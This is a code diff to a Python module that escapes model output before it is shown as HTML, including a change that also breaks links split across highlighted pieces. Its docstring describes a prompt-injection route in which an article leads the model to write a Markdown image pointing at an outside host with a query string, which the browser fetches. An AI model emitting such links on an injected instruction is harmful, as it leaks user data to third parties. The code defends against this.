@@ -12,7 +12,7 @@ import re
 from typing import Iterable, Optional, Sequence
 
 from ..answerability import REASONS
-from ..text import inert
+from ..text import inert, inert_piece
 
 MARKER = re.compile(r"\[(\d+)\]")  # the one [n] form left after citations.clean_markers, in escaped text
 TEMPLATE_CHARS = str.maketrans({"$": "&#36;", "{": "&#123;", "}": "&#125;", "`": "&#96;"})
@@ -24,15 +24,16 @@ REFUSED_NOTE = "The articles do not cover this question."
 CLOSEST_SHOWN = 3
 
 
-def escape(text: str) -> str:
+def escape(text: str, before: str = "") -> str:
     """HTML-escaped text, also inert in JS templates, LaTeX and Markdown: no image, link or bare URL survives.
 
     Model output is rendered as Markdown, and an article can make the model write ``![](http://elsewhere/?q=…)``;
     the browser would fetch it. HTML is escaped, then the pipeline's one rule (text.inert) breaks the rest:
     ``escape('<b>$1</b>') -> '&lt;b&gt;&#36;1&lt;/b&gt;'``;
-    ``escape('![x](http://e.com)') -> '![x] (http(:)//e.com)'``
+    ``escape('![x](http://e.com)') -> '![x] (http(:)//e.com)'``; before is the text shown just ahead of this piece
+    (highlight's pieces), so a link cut in two is broken too: ``escape('(http://e.com)', 'See [x]') -> ' (http(:)//e.com)'``
     """
-    return inert(html.escape(text or "", quote=True)).translate(TEMPLATE_CHARS)
+    return inert_piece(html.escape(before or "", quote=True), html.escape(text or "", quote=True)).translate(TEMPLATE_CHARS)
 
 
 def source_id(turn: int, n: int) -> str:
@@ -126,9 +127,9 @@ def highlight(text: str, spans: Sequence[tuple[int, int]]) -> str:
             merged.append([start, end])
     out, last = [], 0
     for start, end in merged:
-        out += [escape(text[last:start]), "<mark>", escape(text[start:end]), "</mark>"]
+        out += [escape(text[last:start], text[:last]), "<mark>", escape(text[start:end], text[:start]), "</mark>"]
         last = end
-    out.append(escape(text[last:]))
+    out.append(escape(text[last:], text[:last]))
     return "".join(out)
 
 
